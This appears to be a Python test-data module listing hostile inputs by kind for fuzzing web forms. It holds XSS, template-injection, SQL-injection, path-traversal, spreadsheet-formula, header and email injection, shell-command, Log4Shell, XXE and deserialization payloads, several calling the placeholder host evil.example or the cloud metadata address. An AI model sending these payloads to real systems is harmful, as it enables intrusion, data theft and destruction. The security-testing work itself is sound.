"""Texts that have broken other services, by kind. Each may be typed into any field.

What breaks out of HTML carries MARKER; what a template would work out gives ANSWER.
"""

MARKER = "<zqx7>"
ANSWER = str(7919 * 7907)
SUM = "7919*7907"

MARKUP = [
    MARKER, f"\">{MARKER}", f"'>{MARKER}", f"`>{MARKER}", f"{MARKER}</zqx7>", f"</title>{MARKER}",
    f"</textarea>{MARKER}", f"</script>{MARKER}", f"</style>{MARKER}", f"</option>{MARKER}",
    f"</select>{MARKER}", f"</form>{MARKER}", f"</p></main></body>{MARKER}", f"-->{MARKER}",
    f"--!>{MARKER}", f"]]>{MARKER}", f"<![CDATA[{MARKER}]]>", f"<!--{MARKER}-->",
    f"{MARKER}<script>alert(1)</script>", f"{MARKER}<ScRiPt>alert(1)</sCrIpT>",
    f"{MARKER}<script src=//evil.example></script>", f"{MARKER}<img src=x onerror=alert(1)>",
    f"{MARKER}<svg onload=alert(1)>", f"{MARKER}<svg/onload=alert(1)//",
    f"{MARKER}<svg><animate onbegin=alert(1) attributeName=x>", f"{MARKER}<body onload=alert(1)>",
    f"{MARKER}<input autofocus onfocus=alert(1)>", f"{MARKER}<details open ontoggle=alert(1)>",
    f"{MARKER}<video><source onerror=alert(1)>", f"{MARKER}<iframe src=javascript:alert(1)>",
    f"{MARKER}<iframe srcdoc='<script>alert(1)</script>'>",
    f"{MARKER}<object data=data:text/html,x>", f"{MARKER}<embed src=//evil.example>",
    f"{MARKER}<base href=//evil.example/>",
    f"{MARKER}<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"{MARKER}<link rel=stylesheet href=//evil.example>", f"{MARKER}<style>*{{color:red}}</style>",
    f"{MARKER}<form action=//evil.example><button>", f"{MARKER}<math><mtext></mtext><mglyph>",
    f"{MARKER}<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    f"{MARKER}<a href=\"javascript:alert(1)\">x</a>",
    f"{MARKER}<a href=\"java\tscript:alert(1)\">x</a>",
    f"{MARKER}<template><script>alert(1)</script></template>", f"<{MARKER}>", f"<<{MARKER}",
    f"&lt;{MARKER}", f"&{MARKER}", f"&#60;zqx7&#62;{MARKER}", f"&amp;lt;{MARKER}",
    f"\\u003czqx7\\u003e{MARKER}", f"%3Czqx7%3E{MARKER}", f"%253Czqx7%253E{MARKER}",
    f"\uff1czqx7\uff1e{MARKER}", f"\u2039zqx7\u203a{MARKER}", f"{MARKER}\u2028alert(1)",
    f"+ADw-zqx7+AD4-{MARKER}", f"{MARKER}{{{{constructor.constructor('alert(1)')()}}}}",
    f"<zqx7 {MARKER}", f"\x0b{MARKER}\x0c",
]  # fmt: skip
ATTRIBUTES = [
    f"\" onmouseover=\"alert(1)\" x=\"{MARKER}", f"' onmouseover='alert(1)' x='{MARKER}",
    f"\" autofocus onfocus=alert(1) x=\"{MARKER}", f"` onmouseover=alert(1) {MARKER}",
    f"x\" style=\"background:url(//evil.example)\" y=\"{MARKER}", f"\"/>{MARKER}", f"'/>{MARKER}",
    f"\\\"{MARKER}", f"\\'{MARKER}", f"\"\"\"{MARKER}", f"'''{MARKER}", f"\\x3czqx7\\x3e{MARKER}",
    f"';alert(1)//{MARKER}", f"\";alert(1)//{MARKER}", f"</script><script>alert(1)//{MARKER}",
    f"javascript:alert(1)//{MARKER}", f"javascript:/*--></title>{MARKER}",
    f"data:text/html,{MARKER}", f"vbscript:msgbox(1){MARKER}", f"&quot;{MARKER}", f"&#34;{MARKER}",
    f"&#x22;{MARKER}", f"\" accesskey=x onclick=alert(1) {MARKER}",
    f"x:expression(alert(1)){MARKER}",
]  # fmt: skip
TEMPLATES = [
    f"{{{{{SUM}}}}}", f"${{{SUM}}}", f"#{{{SUM}}}", f"<%= {SUM} %>", f"{{%print({SUM})%}}",
    f"{{{{={SUM}}}}}", f"@({SUM})", f"[[${{{SUM}}}]]", f"{{{SUM}}}", f"$({SUM})", f"$(({SUM}))",
    f"`{SUM}`", f"*{{{SUM}}}", f"~{{{SUM}}}", f"{{{{'{{}}'.format({SUM})}}}}", f"#set($x={SUM})$x",
    f"<#assign x={SUM}>${{x}}", f"{{php}}echo {SUM};{{/php}}", f"<?= {SUM} ?>",
    f"{{{{ {SUM} | safe }}}}", f"#{{ {SUM} }}", f"{{{{ config }}}}{{{{{SUM}}}}}",
    "{{ config.SECRET_KEY }}", "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os }}",
    "{% include '/etc/passwd' %}", "{% import 'os' as os %}",
    "{% for x in range(9**9) %}{% endfor %}", "{0.__class__}", "{by.__init__.__globals__}",
    "{reader}", "{count}", "{}", "{0}", "{", "}", "{{", "}}", "%(message)s", "%s%s%s%s%s%n", "%d",
    "%", "%%", "%(", "%(x)", "%08x.%08x", "{:>999999999}", "%999999999d", f"#let x = {SUM}; #x",
    "#read(\"/etc/passwd\")", "#import \"/etc/passwd\": *", "#include \"x.typ\"",
    "\\input{/etc/passwd}", "\\immediate\\write18{id}", "$ x^2 $", "#{while true {}}",
    "*bold* _it_ = Head", "@reference-that-is-not", "<label-zqx>", "#panic(\"x\")", "// comment",
    "/* open comment", "#set page(width: 1pt)",
]  # fmt: skip
SQL = [
    "'", "''", "\"", "`", "';--", "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "') OR ('1'='1",
    "1 OR 1=1", "'; DROP TABLE person;--", "'; DELETE FROM application;--",
    "' UNION SELECT NULL,NULL--", "' UNION SELECT sql FROM sqlite_master--",
    "1; SELECT pg_sleep(9)--", "' || pg_sleep(9) || '", "' AND randomblob(900000000)--", "admin'--",
    "admin'/*", "\\'; SELECT 1;--", "%' OR '%'='", "_%_%_%", "%", "%%%%%%%%%%%%%%%%%%%%", "\\",
    "\\\\", "\\%", "[a-z]", "$1", ":id", ":1", "?", "@@version", "/**/OR/**/1=1", "NULL", "null",
    "0x27", "CHAR(39)", "*/*", "**", "\"a\" NEAR/999999 \"b\"", "a* OR", "NOT", "(", ")))", "a:b:c",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd",
    "/etc/passwd", "%2e%2e%2fetc%2fpasswd", "%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd", "..;/..;/", "file:///etc/passwd", "\\\\evil.example\\share",
    "C:\\boot.ini", "/proc/self/environ", "/dev/zero", "con", "NUL.txt", ".", "..", "/", "//",
    "./.", ".git/config", ".env", "~root", "a/../../b", "passport.pdf\x00.php", "..%00/",
    "\uff0e\uff0e\uff0fetc", "\u2025/\u2025/etc",
]  # fmt: skip
CELLS = [
    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "'=1+1", "\"=1+1\"", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\u22121+1", ";=1+1", ",=1+1", "|=1",
    "a\n=1+1", "DDE(\"cmd\";\"/C calc\";\"1\")",
]  # fmt: skip
HEADERS = [
    "a\r\nX-Zqx7: 1", "a\nX-Zqx7: 1", "a\rX-Zqx7: 1", "a%0d%0aX-Zqx7: 1", "a%0aX-Zqx7:%201",
    "a\r\n\r\n<zqx7>", "a\r\nSet-Cookie: zqx7=1", "a\r\nLocation: //evil.example",
    "a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "a\u560d\u560aX-Zqx7: 1", "a\u2028X-Zqx7: 1",
    "a\u0085X-Zqx7: 1", "a\x0bX-Zqx7: 1", "a\x1cX-Zqx7: 1",
    "a@people.example\r\nBcc: zqx7@evil.example", "a@people.example%0ABcc:zqx7@evil.example",
    "a@people.example\nBcc: zqx7@evil.example", "a@people.example,zqx7@evil.example",
    "a@people.example;zqx7@evil.example", "<a@people.example> <zqx7@evil.example>",
    "a@people.example\r\nSubject: zqx7", "a@people.example\r\n\r\nzqx7",
    "\"a\r\nBcc: zqx7@evil.example\"@people.example", "zqx7@evil.example(a@people.example)",
    "a@people.example>,<zqx7@evil.example", "a%people.example@evil.example",
    "\"<zqx7>\"@people.example", "a@[127.0.0.1]", "a@localhost", "a@xn--zqx7", "a@b@c.example",
    "@people.example", "a@", "a@\u202eelpmaxe.live", "a@ex\u0430mple.example",
    "\u00e4@people.example", "a@" + "b" * 250 + ".example", "a" * 65 + "@people.example",
    "-oQ/tmp/x@people.example", "|id@people.example",
    "=?utf-8?q?zqx7=0D=0ABcc:_zqx7@evil.example?=", ".\r\nQUIT\r\n", "a\r\n.\r\nMAIL FROM:<zqx7>",
]  # fmt: skip
CONTROLS = [
    "\x00", "a\x00b", "\x00\x00\x00\x00", "\x01\x02\x03\x04\x05\x06\x07\x08",
    "\x0e\x0f\x10\x11\x12\x13\x14", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x7f\x7f",
    "\x08\x08\x08", "\x80\x81\x9f", "a\x00<zqx7>", "\t", "\n", "\r", "\r\n", " ", "   ", "\x0b",
    "\x0c", "\x1a", "\x04", "\xa0", "\u3000", "\u1680", "\u2000\u200a", "\u2028", "\u2029", "\x85",
    "a\tb", "a\nb", "a\r\nb", " a ",
]  # fmt: skip
DIRECTIONS = [
    "\u202eevil\u202c", "\u202a\u202b\u202c\u202d\u202e", "\u2066a\u2067b\u2068c", "\u2066" * 200,
    "\u200e\u200f\u061c", "\u200b", "a\u200bb", "\u200b\u200c\u200d\u2060\ufeff", "\ufeffa",
    "a\u00adb", "\u034f", "\u180e", "\u206a\u206f", "\u3164", "\u115f\u1160", "\u202egpj.exe",
    "a\u202e<zqx7>", "\U000e0041\U000e0042\U000e007f", "\ufe0f", "\U000e0100", "\u2800",
]  # fmt: skip
BYTES = [
    "\ud800", "\udfff", "a\ud83d", "\udc00\ud800", "\ud83d<zqx7>", "\ufffe", "\uffff", "\ufdd0",
    "\U0001ffff", "\U0010ffff", "\ufffd", "\ue000", "\U000f0000", b"\xff", b"\xff\xfe", b"\xc0\x80",
    b"\xed\xa0\x80", b"\xf5\x80\x80\x80", b"\xe2\x82", b"\x80<zqx7>", b"\xc3\x28",
    b"\x1b$B<zqx7>\x1b(B", b"\xf8\x88\x80\x80\x80", b"caf\xe9",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "-1", "+1", "00000001", "1.5", "1,5", "1e3", "1e400", "-1e400", "1e-400", "NaN",
    "nan", "inf", "-Infinity", "0x10", "0b1", "0o7", "1_000", "2147483647", "2147483648",
    "-2147483649", "4294967296", "9223372036854775807", "9223372036854775808",
    "18446744073709551616", "9" * 100, "9" * 4299, "9" * 4301, "9" * 20000, "-" + "9" * 30,
    "1" + "0" * 308 + ".5", "\u0661\u0662\u0663", "\uff11\uff12", "\u00b2", "\u2460", "\u216b",
    "\u4e00", "\u0be7", "1 000", "1\u00a0000", "1/0", "$1", "1%", "--1", "1-", "0.1.2", ".", "-",
    "+", "e", "1e", "\u0664\u0665.\u0661",
]  # fmt: skip
DATES = [
    "30 2 2027", "31.4.2027", "2027-02-29", "29 2 1900", "0 0 0", "0000-00-00", "99999-01-01",
    "10000-01-01", "1 13 2027", "32 1 2027", "-1 -1 -1", "9999-12-31", "0001-01-01",
    "1969-12-31T23:59:60Z", "2027-03-28T02:30", "2012-12-31T23:59:60", "2027-13-45T99:99:99",
    "24:00", "23:60", "25:61:61", "12:00 PM+99", "2027-W53-8", "1e9", "tomorrow", "now()",
    "1 Jan \u4ee4\u548c9", "\u4ee4\u548c9\u5e741\u67081\u65e5",
    "\u0661/\u0661/\u0662\u0660\u0662\u0667",
]  # fmt: skip
LONG = [
    "a" * 161, "a" * 1001, "a" * 70_000, "a " * 35_000, "\u00e9" * 5000, "\U0001f600" * 3000,
    "<" * 5000 + MARKER, "\n" * 5000, " " * 20_000, "\u0e01" * 5000, "e" + "\u0301" * 5000,
    "(" * 5000, "[" * 20_000, "{\"a\":" * 5000, "a" * 255 + ".pdf", "\"" * 5000, "&" * 5000,
    "%00" * 2000, "../" * 2000, "a@" * 2000, "0" * 5000, "a-" * 5000,
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
]  # fmt: skip
NAMES = [
    "O\u2019Brien", "O'Brien", "D\u2019Angelo-Smith", "van der Berg",
    "Nguy\u1ec5n Th\u1ecb H\u1ed3ng", "Nguye\u0302\u0303n", "\u5c71\u7530 \u592a\u90ce", "\ufa11",
    "\U00020bb7\u91ce\u5bb6", "\u8fbb\U000e0100",
    "\u0645\u062d\u0645\u062f \u0628\u0646 \u0639\u0644\u064a", "\u05d3\u05d5\u05d3",
    "\u0639\u0644\u064a <zqx7>", "\u0e2a\u0e21\u0e0a\u0e32\u0e22",
    "\u1019\u103c\u1014\u103a\u1019\u102c", "\u0915\u094d\u0937\u0924\u094d\u0930\u093f\u092f",
    "\u1780\u17d2\u1793\u17bb\u17c6", "\u0f56\u0f7c\u0f51", "\u10e5\u10d0\u10e0",
    "\u13e3\u13b3\u13a9", "\u0130stanbul", "\u0131", "\u017f", "\ufb03", "\u00df", "\u1e9e",
    "\u01c4", "\u0149", "\ufb1d", "\ufdfa", "\ufdfd", "Null", "None", "undefined", "True", "NaN",
    "Test", "root", "admin", "Mr. X", "\u2019", ".", "-", "1",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354L\u0368\u0367\u0369\u0358\u0320G\u0311\u0357\u030e\u0305\u035b\u0341\u0334\u033b\u0348\u034d\u0354\u0339O\u0342\u030c\u030c\u0358",
    "\u0301\u0301a", "\u20dd", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f1ef\U0001f1f5", "\U0001f44d\U0001f3fd", "\u2764\ufe0f", "\U0001fae8", "\u1f600",
    "\u2603", "\U0001d573\U0001d576", "\u24d0",
]  # fmt: skip
DATA = [
    "{\"a\": 1}", "[]", "{}", "[[[[]]]]", "{\"__proto__\": {\"x\": 1}}", "{\"$ne\": null}",
    "{\"$gt\": \"\"}", "true", "\"", "{\"a\":1,\"a\":2}", "\\u0000", "\\ud800", "__proto__",
    "constructor",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    "<!DOCTYPE a [<!ENTITY x \"xx\"><!ENTITY y \"&x;&x;\">]><a>&y;</a>",
    "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></a>",
    "!!python/object/apply:os.system ['id']", "&a [*a]", "cos\nsystem\n(S'id'\ntR.", "rO0ABXNyAA==",
    "a:1:{i:0;O:1:\"A\":0:{}}", "a=1&b=2", "a[]=1", "a;b=c", "csrf_token", "version=9", "\x1e",
    "=?", "---\n- a", "```",
]  # fmt: skip
SHELL = [
    "; id", "| id", "|| id", "& id", "&& id", "`id`", "$(id)", "\n id", "; sleep 9", "$(sleep 9)",
    "`sleep 9`", "| sleep 9 #", "${IFS}id", "$HOME", "$0", "> /tmp/zqx7", "< /etc/passwd", "--help",
    "-rf", "--", "-", "() { :;}; id", "%COMSPEC%", "*", "~", "a && ping evil.example", "!!",
    "${jndi:ldap://evil.example/a}", "#!/bin/sh",
]  # fmt: skip
ADDRESSES = [
    "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example",
    "/\t/evil.example", "/%09/evil.example", "/%2f/evil.example", "/%5cevil.example",
    "http://evil.example", "https:evil.example", "https:/evil.example", "HtTps://evil.example",
    "http:\\\\evil.example", "//evil.example%2f..", "//localhost@evil.example",
    "http://localhost@evil.example", "http://localhost.evil.example",
    "http://evil.example#localhost", "http://evil.example?localhost",
    "http://evil.example\\@localhost", "//evil\u3002example", "//\u2485vil.example",
    "\x00//evil.example", " //evil.example", "\r\n//evil.example", "/\r\nLocation://evil.example",
    "javascript:alert(1)", "java\nscript:alert(1)", "data:text/html,x", "mailto:zqx7@evil.example",
    "ftp://evil.example", "gopher://127.0.0.1:25/_x", "http://127.0.0.1", "http://[::1]",
    "http://0", "http://0x7f.1", "http://169.254.169.254/latest/meta-data", "http://[",
    "http://[::1", "http://a:99999", "http://\u2100.example", "/..//evil.example",
    "/./\\evil.example", "/a?b=//evil.example", "/#//evil.example", "?next=//evil.example",
    ".evil.example", "@evil.example", ":80",
]  # fmt: skip

KINDS = {
    "markup": MARKUP, "attributes": ATTRIBUTES, "templates": TEMPLATES, "sql": SQL, "paths": PATHS,
    "cells": CELLS, "headers": HEADERS, "controls": CONTROLS, "directions": DIRECTIONS,
    "bytes": BYTES, "numbers": NUMBERS, "dates": DATES, "long": LONG, "names": NAMES,
    "data": DATA, "shell": SHELL, "addresses": ADDRESSES,
}  # fmt: skip
ALL = list(dict.fromkeys(one for kind in KINDS.values() for one in kind))


def as_sent(text: str | bytes) -> bytes:
    """The bytes on the line; half a surrogate goes as some programs would send it."""
    return text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")


def as_read(text: str | bytes) -> str:
    """What stands in the form as the server reads it."""
    return as_sent(text).decode("utf-8", "replace")
